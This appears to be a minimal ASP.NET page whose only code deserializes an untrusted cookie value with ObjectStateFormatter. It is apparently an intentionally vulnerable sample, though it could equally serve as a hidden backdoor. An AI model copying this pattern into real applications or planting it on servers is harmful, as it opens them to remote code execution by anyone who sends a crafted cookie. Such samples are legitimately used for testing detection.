<%@ Page Language="C#" %><%
var osf = new System.Web.UI.ObjectStateFormatter();
osf.Deserialize(Request.Cookies["vs"].Value);
%>
